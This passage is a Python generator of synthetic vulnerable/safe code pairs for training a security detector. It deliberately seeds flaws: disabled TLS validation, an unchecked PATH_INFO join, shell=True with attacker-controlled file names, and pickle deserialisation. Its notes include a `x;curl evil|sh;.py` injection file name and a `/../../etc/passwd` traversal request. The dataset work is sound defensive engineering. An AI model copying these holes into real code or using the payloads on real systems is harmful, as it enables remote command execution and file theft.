"""Train-only whole-module families weighted towards hard negatives (libs6 safe set): modules shaped like
mature library code (an httplib2 API client, a bare WSGI static-file app, a cleo command runner, a kombu
job queue, Pyramid sign-in views, a Jinja2 template environment with a bytecode cache) in which
security-looking idioms are used correctly: subprocess with fixed argument lists, ``os.path.join`` of a
validated name, hashlib for ETags and cache keys, ``random`` for jitter, a pickle of the module's own
state under its own private directory (``# nosec``), ``yaml.safe_load``, redirects to ``route_url``
targets, debug flags read from the environment and off by default, ``tempfile.mkstemp``.

Each family has one weak module (exactly one weak statement among many safe ones) with its minimal fix
as twin, and a ``@hardneg(10)`` builder that assembles safe modules from the same pool of parts with
other draws, so the modules differ in the set of functions they hold, not only in names.

Covers: httplib2 ``disable_ssl_certificate_validation=True`` (295), a WSGI static app joining
``PATH_INFO`` without a containment check (22), a cleo ``hooks run`` command passing changed file names
from the branch under review through a shell (78), a kombu consumer accepting pickle (502), a Pyramid
sign-in view redirecting to ``came_from`` unchecked (601), and a Jinja2 ``FileSystemBytecodeCache`` in a
shared, predictable temporary directory (377).
Written without reading the held-out or validation families; every family here goes to train.
"""
import functools

import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P, fill

# The part helpers (``P``, ``fill``, ``compose``, ``pair``) are train_modules_safe_web's. Import
# grouping here knows more standard-library modules (these modules import subprocess, pickle, shutil,
# wsgiref...), so ``compose`` and ``pair`` get the longer ``_STDLIB``.
_STDLIB = _web._STDLIB | {"fnmatch", "glob", "io", "mimetypes", "pickle", "platform", "posixpath", "queue", "shlex",
                          "shutil", "ssl", "stat", "subprocess", "tempfile", "tomllib", "wsgiref", "zlib"}
compose, pair = _web.with_stdlib(_STDLIB)


def _word(c):
    w = "note" if c.word == "profile" else c.word
    return w


def _domain(c, w):
    return c.pick(f"{w}s.example.com", "example.org", f"{w}hub.example.net", "corp.example.com")


# ---------------- CWE-295: httplib2 API client with certificate validation switched off ----------------


def _h2_kw(c):
    w = _word(c)
    api = c.pick("billing", "catalog", "inventory", "registry", "ledger", "directory")
    return dict(
        w=w, ws=w + "s", W=w.capitalize(), api=api, API=api.upper(),
        Client=api.capitalize() + c.pick("Client", "Api", "Session"),
        domain=_domain(c, api), log=c.pick("log", "logger"),
        timeout=c.pick("10", "15", "30"), attempts=c.pick(3, 4, 5),
        cache=c.pick(f'os.path.join(os.path.expanduser("~"), ".cache", "{api}-http")',
                     f'os.environ.get("{api.upper()}_HTTP_CACHE") or os.path.join(os.path.expanduser("~"), ".cache", "{api}")'),
        ua=c.pick(f"{api}-python", f"{api}-sdk", f"py{api}"), ver=c.pick("1.4.2", "2.0.1", "0.9.7"),
        bo_fn=c.pick("_backoff", "_retry_delay", "_jitter_delay"),
        key_fn=c.pick("_cache_key", "_request_key", "_dedupe_key"),
    )


def _h2_parts(c, http_line):
    """``http_line`` builds ``self.http``; $FIX sits in its keyword arguments."""
    get_shape = c.pick("query", "path")
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            DEFAULT_BASE_URL = os.environ.get("$API_URL", "https://api.$domain/v1")
            CACHE_DIR = $cache
            RETRY_STATUSES = frozenset({502, 503, 504})
            USER_AGENT = "$ua/$ver"
        '''),
        P("error", rank=1, body='''
            class $WApiError(Exception):
                """A non-2xx answer; ``status`` is the HTTP status, ``body`` the (truncated) response text."""

                def __init__(self, status: int, body: str) -> None:
                    super().__init__(f"$api API answered {status}")
                    self.status = status
                    self.body = body[:500]
        '''),
        P("client", rank=3, imp="import json\nimport time\nimport httplib2\nfrom urllib.parse import urlencode, quote",
          needs=["backoff"], body='''
            class $Client:
                """Client of the $api API over httplib2: JSON bodies, a local HTTP cache, retries on 5xx."""

                def __init__(self, base_url: str = DEFAULT_BASE_URL, token: str | None = None, timeout: float = $timeout) -> None:
                    if not base_url.startswith("https://"):
                        raise ValueError("the $api API is only served over https")
                    self.base_url = base_url.rstrip("/")
                    self.token = token or os.environ["$API_TOKEN"]''' + http_line + '''
                    self.http.follow_all_redirects = False

                def _request(self, method: str, path: str, payload: dict | None = None) -> dict:
                    headers = {"Accept": "application/json", "Authorization": f"Bearer {self.token}", "User-Agent": USER_AGENT}
                    body = None
                    if payload is not None:
                        body = json.dumps(payload, separators=(",", ":"))
                        headers["Content-Type"] = "application/json"
                    for attempt in range($attempts):
                        resp, content = self.http.request(self.base_url + path, method, body=body, headers=headers)
                        if resp.status not in RETRY_STATUSES or attempt + 1 == $attempts:
                            break
                        $log.warning("%s %s answered %d, retrying", method, path, resp.status)
                        time.sleep($bo_fn(attempt))
                    if not 200 <= resp.status < 300:
                        raise $WApiError(resp.status, content.decode("utf-8", "replace"))
                    return json.loads(content) if content else {}

                def get_$w(self, $w_id: str) -> dict:
                    return self._request("GET", "/$ws/" + quote($w_id, safe=""))

                def list_$ws(self, **filters: str) -> list[dict]:
                    query = "?" + urlencode(sorted(filters.items())) if filters else ""
                    return self._request("GET", "/$ws" + query).get("items", [])

                def create_$w(self, fields: dict) -> dict:
                    return self._request("POST", "/$ws", fields)
        ''' if get_shape == "query" else http_line.join(["""
            class $Client:
                \"\"\"Thin $api API wrapper (httplib2). Every call is a JSON request with a bearer token.\"\"\"

                def __init__(self, token: str, base_url: str = DEFAULT_BASE_URL, timeout: float = $timeout) -> None:
                    self.base_url = base_url.rstrip("/")
                    self._auth = {"Authorization": "Bearer " + token}""", """

                def _call(self, method: str, path: str, payload: dict | None = None) -> dict:
                    headers = {**self._auth, "Accept": "application/json", "User-Agent": USER_AGENT}
                    body = json.dumps(payload) if payload is not None else None
                    if body is not None:
                        headers["Content-Type"] = "application/json"
                    attempt = 0
                    while True:
                        resp, content = self.http.request(f"{self.base_url}{path}", method, body=body, headers=headers)
                        attempt += 1
                        if resp.status in RETRY_STATUSES and attempt < $attempts:
                            time.sleep($bo_fn(attempt))
                            continue
                        break
                    if resp.status >= 400:
                        $log.info("%s %s -> %d", method, path, resp.status)
                        raise $WApiError(resp.status, content.decode("utf-8", "replace"))
                    return json.loads(content or b"{}")

                def $w(self, $w_id: str) -> dict:
                    return self._call("GET", f"/$ws/{quote($w_id, safe='')}")

                def update_$w(self, $w_id: str, changes: dict) -> dict:
                    return self._call("PATCH", f"/$ws/{quote($w_id, safe='')}", changes)
        """])),
    ]
    pool = [
        P("backoff", rank=1, imp="import random", body='''
            def $bo_fn(attempt: int) -> float:
                """Exponential backoff with full jitter; ``random`` is fine for spreading retries."""
                return random.uniform(0, min(8.0, 0.25 * 2 ** attempt))
        '''),
        P("cachekey", rank=1, imp="import hashlib\nimport json", body='''
            def $key_fn(method: str, url: str, payload: dict | None = None) -> str:
                """Key for the in-process de-duplication of identical requests (not a security control)."""
                canonical = json.dumps([method, url, payload], sort_keys=True, default=str)
                return hashlib.sha1(canonical.encode()).hexdigest()
        '''),
        P("nextlink", rank=2, imp="from urllib.parse import urlsplit", body='''
            def same_origin(next_url: str, base_url: str) -> bool:
                """Follow pagination links only when they stay on the API host (the token goes with them)."""
                a, b = urlsplit(next_url), urlsplit(base_url)
                return (a.scheme, a.hostname, a.port) == (b.scheme, b.hostname, b.port)
        '''),
        P("download", rank=2, imp="import os\nimport re\nimport tempfile", const='SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,120}")', body='''
            def save_export(content: bytes, name: str, dest_dir: str) -> str:
                """Write an export atomically into ``dest_dir``; ``name`` must be a plain file name."""
                if not SAFE_NAME.fullmatch(name):
                    raise ValueError(f"bad export name {name!r}")
                fd, tmp = tempfile.mkstemp(dir=dest_dir, prefix=".part-")
                with os.fdopen(fd, "wb") as fh:
                    fh.write(content)
                final = os.path.join(dest_dir, name)
                os.replace(tmp, final)
                return final
        '''),
        P("debug", rank=1, imp="import os\nimport logging", const='HTTP_DEBUG = os.environ.get("$API_HTTP_DEBUG", "") == "1"', body='''
            def configure_logging() -> None:
                """Request logging for local troubleshooting; off unless $API_HTTP_DEBUG=1 (never logs headers)."""
                logging.getLogger("$api").setLevel(logging.DEBUG if HTTP_DEBUG else logging.WARNING)
        '''),
        P("fromenv", rank=4, body='''
            def client_from_env() -> "$Client":
                """The client configured from the environment ($API_URL, $API_TOKEN)."""
                return $Client(os.environ.get("$API_URL", DEFAULT_BASE_URL), os.environ["$API_TOKEN"])
        ''' if get_shape == "query" else '''
            def client_from_env() -> "$Client":
                """The client configured from the environment ($API_URL, $API_TOKEN)."""
                return $Client(os.environ["$API_TOKEN"], os.environ.get("$API_URL", DEFAULT_BASE_URL))
        '''),
    ]
    return core, pool


_H2_DOCS = ["Client for the $api HTTP API (httplib2), used by the $w sync jobs.",
            "$api API access for the $w service: a small httplib2 wrapper with retries and caching.",
            "HTTP session helpers of the $w integration with the $api API."]


def _h2_http(c, shape):
    if shape == "call":
        return ('''
                    $FIX''')
    return ('''
                    self.http = httplib2.Http(
                        cache=CACHE_DIR,
                        timeout=timeout,
                        $FIX
                    )''')


def _h2_wrap(shape, arg, mark=""):
    if shape == "call":
        return "self.http = httplib2.Http(CACHE_DIR, timeout=timeout, " + arg + ")" + mark
    return arg + "," + mark


@fam("mod6-httplib2-client-cert-validation-off", "CWE-295", fws=["script"], n=8, wrap=False)
def mod6_httplib2_cert_off(c):
    kw = _h2_kw(c)
    shape = c.pick("call", "multi")
    core, pool = _h2_parts(c, _h2_http(c, shape))
    sfix = c.pick('ca_certs=os.environ.get("$API_CA_BUNDLE") or None', "disable_ssl_certificate_validation=False")
    vfix, sfix = _h2_wrap(shape, "disable_ssl_certificate_validation=True", "  #@V"), _h2_wrap(shape, sfix)
    v, s = pair(c, c.pick(*_H2_DOCS), '$log = logging.getLogger("$w.$api")', core, pool, kw, fill(vfix, **kw),
                fill(sfix, **kw))
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes="the httplib2.Http of the client is built with disable_ssl_certificate_validation=True: "
                      "httplib2 then skips both the chain and the host-name check, so anyone on the path can "
                      "answer for the API and read the bearer token sent with every request; the fix keeps "
                      "validation on (optionally with a private CA bundle via ca_certs)")


@hardneg(10)
def mod6_httplib2_cert_off_hn(c):
    kw = _h2_kw(c)
    shape = c.pick("call", "multi")
    core, pool = _h2_parts(c, _h2_http(c, shape))
    fix = _h2_wrap(shape, c.pick('ca_certs=os.environ.get("$API_CA_BUNDLE") or None',
                                 "disable_ssl_certificate_validation=False", 'tls_minimum_version="TLSv1_2"',
                                 "proxy_info=httplib2.proxy_info_from_environment"))
    code = compose(c, c.pick(*_H2_DOCS), '$log = logging.getLogger("$w.$api")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fill(fix, **kw)}])[0]
    return Spec(s=code, full=True, fw="sdk",
                notes="httplib2 client with certificate validation left on (default, explicit False, a private "
                      "CA bundle or a TLS floor); same-origin checks before following links, jitter from random, "
                      "sha1 request keys, exports written through mkstemp")


# ---------------- CWE-22: bare WSGI static-file app joining PATH_INFO without a containment check ----------------


def _wsgi_kw(c):
    w = _word(c)
    return dict(w=w, W=w.capitalize(), WU=w.upper(), log=c.pick("log", "logger"), App=c.pick("StaticFiles", "AssetApp", "StaticApp"),
                maxage=c.pick(300, 3600, 86400), block=c.pick("64 * 1024", "32768", "1 << 16"),
                ENV=c.pick(f"{w.upper()}_STATIC_ROOT", "STATIC_ROOT", "ASSET_DIR"),
                etag_fn=c.pick("_etag", "file_etag", "_validator"), port=c.pick(8000, 8080, 8765))


def _wsgi_parts(c, inline):
    resolve_call = "full = $FIX" if inline else "full = self._resolve(rel)"
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            BLOCK_SIZE = $block
            INDEX_FILE = "index.html"
        '''),
        P("app", rank=3, imp="import mimetypes\nimport os\nfrom email.utils import formatdate\nfrom wsgiref.util import FileWrapper",
          needs=["etag"], body='''
            class $App:
                """WSGI app serving the built front-end assets under ``root`` (GET and HEAD only)."""

                def __init__(self, root: str, max_age: int = $maxage) -> None:
                    self.root = os.path.realpath(root)
                    self.max_age = max_age

                def __call__(self, environ, start_response):
                    if environ["REQUEST_METHOD"] not in ("GET", "HEAD"):
                        start_response("405 Method Not Allowed", [("Allow", "GET, HEAD"), ("Content-Type", "text/plain")])
                        return [b"method not allowed\\n"]
                    rel = environ.get("PATH_INFO", "/").lstrip("/") or INDEX_FILE  #@S
                    if os.path.basename(rel).startswith("."):
                        return self._not_found(start_response)
                    ''' + resolve_call + '''
                    if full is None or not os.path.isfile(full):
                        return self._not_found(start_response)
                    st = os.stat(full)
                    tag = $etag_fn(st)
                    if environ.get("HTTP_IF_NONE_MATCH") == tag:
                        start_response("304 Not Modified", [("ETag", tag)])
                        return []
                    ctype = mimetypes.guess_type(full)[0] or "application/octet-stream"
                    start_response("200 OK", [
                        ("Content-Type", ctype),
                        ("Content-Length", str(st.st_size)),
                        ("ETag", tag),
                        ("Last-Modified", formatdate(st.st_mtime, usegmt=True)),
                        ("Cache-Control", f"public, max-age={self.max_age}"),
                    ])
                    if environ["REQUEST_METHOD"] == "HEAD":
                        return []
                    wrapper = environ.get("wsgi.file_wrapper", FileWrapper)
                    return wrapper(open(full, "rb"), BLOCK_SIZE)
        ''' + ('' if inline else '''
                def _resolve(self, rel: str) -> str | None:
                    """The file under ``root`` that ``rel`` names."""
                    $FIX
        ''') + '''
                @staticmethod
                def _not_found(start_response):
                    start_response("404 Not Found", [("Content-Type", "text/plain")])
                    return [b"not found\\n"]
        '''),
        P("etag", rank=1, imp="import hashlib\nimport os", body='''
            def $etag_fn(st: os.stat_result) -> str:
                """Weak validator from size and mtime; md5 only fingerprints, it protects nothing."""
                raw = f"{st.st_size}-{st.st_mtime_ns}".encode()
                return 'W/"' + hashlib.md5(raw).hexdigest() + '"'
        '''),
    ]
    pool = [
        P("factory", rank=4, imp="import os", body='''
            def make_app(root: str | None = None) -> $App:
                """The app for ``root``, else $ENV from the environment."""
                root = root or os.environ.get("$ENV") or os.path.join(os.path.dirname(os.path.abspath(__file__)), "dist")
                return $App(root)
        '''),
        P("serve", rank=5, needs=["factory"], imp="import os\nfrom wsgiref.simple_server import make_server",
          const='DEBUG = os.environ.get("$WU_STATIC_DEBUG", "") == "1"', tail='''
            if __name__ == "__main__":
                logging.basicConfig(level=logging.DEBUG if DEBUG else logging.INFO)
                with make_server("127.0.0.1", $port, make_app()) as httpd:
                    $log.info("serving on http://127.0.0.1:%d", $port)
                    httpd.serve_forever()
        '''),
        P("gzip", rank=2, imp="import os", body='''
            def precompressed(full: str, accept_encoding: str) -> tuple[str, str | None]:
                """The ``.gz`` sibling built next to ``full`` when the client accepts gzip."""
                gz = full + ".gz"
                if "gzip" in accept_encoding and os.path.isfile(gz):
                    return gz, "gzip"
                return full, None
        '''),
        P("manifest", rank=2, imp="import json\nimport os", body='''
            def load_manifest(root: str) -> dict[str, str]:
                """Logical asset name -> hashed file name, as written by the bundler."""
                try:
                    with open(os.path.join(root, "manifest.json"), encoding="utf-8") as fh:
                        return json.load(fh)
                except FileNotFoundError:
                    return {}
        '''),
        P("mw", rank=4, body='''
            class StaticMiddleware:
                """Serve ``prefix`` from the static app and hand everything else to ``app``."""

                def __init__(self, app, static, prefix: str = "/static/") -> None:
                    self.app, self.static, self.prefix = app, static, prefix

                def __call__(self, environ, start_response):
                    path = environ.get("PATH_INFO", "")
                    if not path.startswith(self.prefix):
                        return self.app(environ, start_response)
                    environ = dict(environ, PATH_INFO=path[len(self.prefix) - 1:])
                    return self.static(environ, start_response)
        '''),
    ]
    return core, pool


_WSGI_DOCS = ["Static asset serving for the $w front end: a plain WSGI app with ETags and caching headers.",
              "WSGI static-file helper of the $w service (no framework: mounted in front of the app server).",
              "Serves the built $w assets from disk, with conditional GETs."]


def _wsgi_fix(c, inline):
    shape = c.pick("join", "normpath", "abspath")
    expr = {"join": "os.path.join(self.root, rel)", "normpath": "os.path.join(self.root, os.path.normpath(rel))",
            "abspath": "os.path.abspath(os.path.join(self.root, rel))"}[shape]
    if inline:
        v = expr + "  #@V"
        s = ("os.path.realpath(os.path.join(self.root, rel))\n"
             "        if os.path.commonpath((self.root, full)) != self.root:\n"
             "            return self._not_found(start_response)")
    else:
        v = "return " + expr + "  #@V"
        s = ("full = os.path.realpath(os.path.join(self.root, rel))\n"
             "        return full if os.path.commonpath((self.root, full)) == self.root else None")
    return v, s


@fam("mod6-wsgiref-static-path-info-join", "CWE-22", fws=["script"], n=8, wrap=False)
def mod6_wsgi_static(c):
    kw = _wsgi_kw(c)
    inline = c.pick(True, False)
    core, pool = _wsgi_parts(c, inline)
    vfix, sfix = _wsgi_fix(c, inline)
    v, s = pair(c, c.pick(*_WSGI_DOCS), '$log = logging.getLogger("$w.static")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="PATH_INFO is joined to the asset root without a containment check (normpath/abspath do not "
                      "help): GET /../../etc/passwd (or %2e%2e, which WSGI servers decode into PATH_INFO) serves any "
                      "file the process can read; the fix resolves the path and requires it to stay under root")


@hardneg(10)
def mod6_wsgi_static_hn(c):
    kw = _wsgi_kw(c)
    inline = c.pick(True, False)
    core, pool = _wsgi_parts(c, inline)
    _, sfix = _wsgi_fix(c, inline)
    if not inline and c.pick(True, False):
        sfix = "return safe_join(self.root, rel)"
        core[0].imp += "\nfrom werkzeug.security import safe_join"
    code = compose(c, c.pick(*_WSGI_DOCS), '$log = logging.getLogger("$w.static")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": sfix}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="script",
                notes="static WSGI app whose paths are resolved and kept under the root (realpath + commonpath, or "
                      "werkzeug's safe_join); md5 only for ETags, manifest read from a fixed file name")


# ---------------- CWE-78: cleo command running checkers on changed file names through a shell ----------------


def _cleo_kw(c):
    tool = c.pick("devkit", "repotool", "qa", "shipit", "lintel")
    return dict(tool=tool, TOOL=tool.upper(), log=c.pick("log", "logger"),
                Run=c.pick("HooksRunCommand", "RunChecksCommand", "CheckChangedCommand"),
                cmdname=c.pick("hooks run", "check changed", "lint diff"),
                base=c.pick("origin/main", "origin/master", "main"), run_fn=c.pick("run_checker", "_run_one", "check_file"),
                files_fn=c.pick("changed_files", "files_since", "diff_names"), timeout=c.pick(60, 120, 300))


def _cleo_parts(c):
    checkers = c.pick(
        '{"ruff": ["ruff", "check", "--quiet"], "black": ["black", "--check", "--quiet"], "yamllint": ["yamllint", "-s"]}',
        '{"flake8": ["flake8"], "isort": ["isort", "--check-only", "--quiet"], "mypy": ["mypy", "--no-error-summary"]}',
        '{"ruff": ["ruff", "check"], "codespell": ["codespell"], "shellcheck": ["shellcheck", "-x"]}')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import re", const=f'''
            CHECKERS: dict[str, list[str]] = {checkers}
            PATTERNS = {{"ruff": "*.py", "black": "*.py", "flake8": "*.py", "isort": "*.py", "mypy": "*.py",
                        "yamllint": "*.y*ml", "codespell": "*", "shellcheck": "*.sh"}}
            REF_RE = re.compile(r"[A-Za-z0-9][A-Za-z0-9._/-]*")
        '''),
        P("files", rank=1, imp="import subprocess", body='''
            def $files_fn(base: str) -> list[str]:
                """Paths added, copied or modified since ``base``; the names come from the branch under review."""
                if not REF_RE.fullmatch(base):
                    raise ValueError(f"not a branch or commit: {base!r}")
                proc = subprocess.run(["git", "diff", "--name-only", "-z", "--diff-filter=ACM", f"{base}...HEAD"],
                                      capture_output=True, check=True)
                return [p for p in proc.stdout.decode("utf-8", "surrogateescape").split("\\0") if p]  #@S
        '''),
        P("run", rank=1, imp="import subprocess", body='''
            def $run_fn(name: str, path: str) -> tuple[bool, str]:
                """Run checker ``name`` on one file; (passed, combined output)."""
                argv = CHECKERS[name]
                $log.debug("running %s on %s", name, path)
                $FIX
                return proc.returncode == 0, proc.stdout
        '''),
        P("cmd", rank=3, imp="import fnmatch\nfrom cleo.commands.command import Command\nfrom cleo.helpers import argument, option",
          body='''
            class $Run(Command):
                name = "$cmdname"
                description = "Run the configured checkers on the files changed since BASE."
                arguments = [argument("base", description="Branch or commit to diff against.", optional=True, default="$base")]
                options = [
                    option("checker", "c", description="Only run this checker (repeatable).", flag=False, multiple=True),
                    option("fail-fast", None, description="Stop at the first failing file.", flag=True),
                ]

                def handle(self) -> int:
                    wanted = self.option("checker") or sorted(CHECKERS)
                    unknown = sorted(set(wanted) - set(CHECKERS))
                    if unknown:
                        self.line_error(f"<error>unknown checker(s): {', '.join(unknown)}</error>")
                        return 2
                    failures = 0
                    for path in $files_fn(self.argument("base")):
                        for name in wanted:
                            if not fnmatch.fnmatch(path, PATTERNS.get(name, "*")):
                                continue
                            ok, output = $run_fn(name, path)
                            if ok:
                                continue
                            failures += 1
                            self.line(f"<comment>{name}</comment> {path}")
                            self.line(output.rstrip())
                            if self.option("fail-fast"):
                                return 1
                    self.line(f"<info>{failures} problem(s)</info>" if failures else "<info>all clean</info>")
                    return 1 if failures else 0
        '''),
        P("main", rank=5, imp="from cleo.application import Application", tail='''
            def main() -> int:
                application = Application("$tool", "$ver")
                for command in COMMANDS:
                    application.add(command())
                return application.run()


            if __name__ == "__main__":
                raise SystemExit(main())
        '''),
    ]
    pool = [
        P("list", rank=3, imp="import shlex\nfrom cleo.commands.command import Command", body='''
            class ListCheckersCommand(Command):
                name = "$cmdname0 list"
                description = "Show the checkers and the command line each one runs."

                def handle(self) -> int:
                    for name in sorted(CHECKERS):
                        self.line(f"<info>{name:<12}</info> {shlex.join(CHECKERS[name])}  ({PATTERNS.get(name, '*')})")
                    return 0
        '''),
        P("doctor", rank=3, imp="import shutil\nimport subprocess\nfrom cleo.commands.command import Command", body='''
            class DoctorCommand(Command):
                name = "$cmdname0 doctor"
                description = "Check that every checker is installed and print its version."

                def handle(self) -> int:
                    missing = 0
                    for name, argv in sorted(CHECKERS.items()):
                        exe = shutil.which(argv[0])
                        if exe is None:
                            self.line_error(f"<error>{name}: {argv[0]} not found on PATH</error>")
                            missing += 1
                            continue
                        out = subprocess.run([exe, "--version"], capture_output=True, text=True, timeout=$timeout)
                        self.line(f"{name}: {out.stdout.strip() or out.stderr.strip()}")
                    return 1 if missing else 0
        '''),
        P("cache", rank=2, imp="import hashlib\nimport json\nimport os", const='CACHE_FILE = os.path.join(".git", "$tool-checks.json")', body='''
            def content_key(name: str, path: str) -> str:
                """Cache key: checker name and file content (sha256 of the bytes), so edits invalidate it."""
                with open(path, "rb") as fh:
                    return name + ":" + hashlib.sha256(fh.read()).hexdigest()


            def load_cache() -> dict[str, bool]:
                try:
                    with open(CACHE_FILE, encoding="utf-8") as fh:
                        return json.load(fh)
                except (FileNotFoundError, ValueError):
                    return {}
        '''),
        P("verbose", rank=1, imp="import os", const='VERBOSE = os.environ.get("$TOOL_DEBUG", "") == "1"', setup=
          'logging.basicConfig(level=logging.DEBUG if VERBOSE else logging.WARNING, format="%(levelname)s %(message)s")'),
    ]
    return core, pool


_CLEO_DOCS = ["`$tool $cmdname0` commands (cleo): run the configured checkers on the files a branch changes.",
              "Pre-merge checks for $tool: a cleo command that lints the files changed since a base branch.",
              "Changed-file checks of the $tool CLI, built on cleo."]


def _cleo_cmdlist(pool_keys):
    return pool_keys


@fam("mod6-cleo-hook-runner-shell-path", "CWE-78", fws=["cli"], n=8, wrap=False)
def mod6_cleo_runner(c):
    kw = _cleo_kw(c)
    kw["cmdname0"] = kw["cmdname"].split()[0]
    kw["ver"] = c.pick("0.8.1", "1.2.0", "2.3.4")
    core, pool = _cleo_parts(c)
    opts = "capture_output=True, text=True" if c.pick(True, False) else "stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True"
    shape = c.pick("fjoin", "joinlist", "concat")
    cmd = {"fjoin": "f\"{' '.join(argv)} {path}\"", "joinlist": '" ".join([*argv, path])',
           "concat": '" ".join(argv) + " " + path'}[shape]
    vfix = f"proc = subprocess.run({cmd}, shell=True, {opts}, timeout={kw['timeout']})  #@V"
    sfix = f'proc = subprocess.run([*argv, "--", path], {opts}, timeout={kw["timeout"]})'
    v, s = pair(c, c.pick(*_CLEO_DOCS), '$log = logging.getLogger("$tool.checks")', core, pool, kw, vfix, sfix)
    v, s = (_cleo_commands(x) for x in (v, s))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the checker runs through a shell with the changed file's name pasted into the command line: "
                      "file names come from the branch under review (git diff --name-only), so a contributor who "
                      "adds a file named `x;curl evil|sh;.py` runs commands on the CI machine or the reviewer's "
                      "laptop; the fix passes an argument list (after `--`) without a shell")


def _cleo_commands(code):
    """The COMMANDS list of the command classes the drawn parts define."""
    names = [l.split("(")[0][6:] for l in code.split("\n") if l.startswith("class ") and "(Command)" in l]
    return code.replace("\n\n\ndef main() -> int:", "\n\n\nCOMMANDS = [" + ", ".join(names) + "]\n\n\ndef main() -> int:")


@hardneg(10)
def mod6_cleo_runner_hn(c):
    kw = _cleo_kw(c)
    kw["cmdname0"] = kw["cmdname"].split()[0]
    kw["ver"] = c.pick("0.8.1", "1.2.0", "2.3.4")
    core, pool = _cleo_parts(c)
    opts = "capture_output=True, text=True" if c.pick(True, False) else "stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True"
    fix = c.pick(f'proc = subprocess.run([*argv, "--", path], {opts}, timeout={kw["timeout"]})',
                 f'proc = subprocess.run(argv + [os.path.abspath(path)], {opts}, check=False)',
                 f'proc = subprocess.run([*argv, "--", path], {opts}, cwd=os.getcwd(), env={{**os.environ, "NO_COLOR": "1"}})')
    if "os." in fix:
        core[0].imp += "\nimport os"
    code = compose(c, c.pick(*_CLEO_DOCS), '$log = logging.getLogger("$tool.checks")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fix}])[0]
    return Spec(s=_cleo_commands(code).replace("  #@S", ""), full=True, fw="cli",
                notes="cleo command that runs each checker with an argument list (file name after `--` or made "
                      "absolute), git called with a validated ref, shlex.join only for display, sha256 content keys")


# ---------------- CWE-502: kombu job-queue consumer that accepts pickle ----------------


def _kombu_kw(c):
    w = _word(c)
    return dict(w=w, W=w.capitalize(), WU=w.upper(), log=c.pick("log", "logger"), queue=c.pick(f"{w}-jobs", f"{w}.tasks", f"jobs.{w}"),
                ENV=c.pick("BROKER_URL", f"{w.upper()}_BROKER_URL", "AMQP_URL"), poll=c.pick(1, 2, 5),
                handle_fn=c.pick("handle_job", "run_job", "process_job"), state=c.pick(f"{w}-worker", f"{w}q"))


def _kombu_parts(c):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            BROKER_URL = os.environ["$ENV"]
            QUEUE_NAME = "$queue"
            POLL_SECONDS = $poll
            KNOWN_KINDS = frozenset({"render", "reindex", "notify"})
        '''),
        P("publish", rank=2, imp="from kombu import Connection", body='''
            def publish(job: dict) -> None:
                """Enqueue a job as JSON (the web tier calls this)."""
                if job.get("kind") not in KNOWN_KINDS:
                    raise ValueError(f"unknown job kind {job.get('kind')!r}")
                with Connection(BROKER_URL) as conn:
                    queue = conn.SimpleQueue(QUEUE_NAME, serializer="json")
                    queue.put(job)
                    queue.close()
        '''),
        P("consume", rank=3, imp="from kombu import Connection", needs=["handle"], body='''
            def consume(limit: int | None = None) -> int:
                """Process jobs until the queue stays empty for POLL_SECONDS (or ``limit`` jobs)."""
                done = 0
                with Connection(BROKER_URL, heartbeat=30) as conn:
                    $FIX
                    try:
                        while limit is None or done < limit:
                            try:
                                message = queue.get(block=True, timeout=POLL_SECONDS)
                            except queue.Empty:
                                break
                            job = message.payload  #@S
                            try:
                                $handle_fn(job)
                            except Exception:
                                $log.exception("job %s failed", job.get("id") if isinstance(job, dict) else "?")
                                message.reject()
                                continue
                            message.ack()
                            done += 1
                    finally:
                        queue.close()
                return done
        '''),
        P("handle", rank=2, body='''
            def $handle_fn(job: dict) -> None:
                """Dispatch one job by kind; unknown kinds are dropped with a warning."""
                kind = job.get("kind")
                if kind not in KNOWN_KINDS:
                    $log.warning("dropping job of unknown kind %r", kind)
                    return
                $log.info("job %s (%s) started", job.get("id"), kind)
                HANDLERS[kind](job)
        ''', const='HANDLERS = {"render": lambda job: None, "reindex": lambda job: None, "notify": lambda job: None}'),
    ]
    pool = [
        P("idem", rank=1, imp="import hashlib\nimport json", body='''
            def job_key(job: dict) -> str:
                """Idempotency key: the same job body always gives the same key (a fingerprint, not a MAC)."""
                return hashlib.sha256(json.dumps(job, sort_keys=True, default=str).encode()).hexdigest()
        '''),
        P("jitter", rank=1, imp="import random", body='''
            def retry_delay(attempt: int) -> float:
                """Seconds before a failed job is retried: exponential, with random jitter."""
                return min(300.0, 2.0 ** attempt) * random.uniform(0.5, 1.0)
        '''),
        P("state", rank=2, imp="import os\nimport pickle\nimport tempfile",
          const='STATE_DIR = os.path.join(os.path.expanduser("~"), ".local", "state", "$state")', body='''
            def save_state(state: dict) -> None:
                """Persist the worker's own counters under its private state directory (atomic replace)."""
                os.makedirs(STATE_DIR, mode=0o700, exist_ok=True)
                fd, tmp = tempfile.mkstemp(dir=STATE_DIR, suffix=".tmp")
                with os.fdopen(fd, "wb") as fh:
                    pickle.dump(state, fh)
                os.replace(tmp, os.path.join(STATE_DIR, "state.pickle"))


            def load_state() -> dict:
                try:
                    with open(os.path.join(STATE_DIR, "state.pickle"), "rb") as fh:
                        return pickle.load(fh)  # nosec B301: written by this worker into its own 0700 directory
                except FileNotFoundError:
                    return {}
        '''),
        P("config", rank=1, imp="import os\nimport yaml", body='''
            def load_routing(path: str = os.environ.get("$WU_ROUTING_FILE", "routing.yaml")) -> dict:
                """Queue routing table from YAML (plain data: safe_load)."""
                with open(path, encoding="utf-8") as fh:
                    return yaml.safe_load(fh) or {}
        '''),
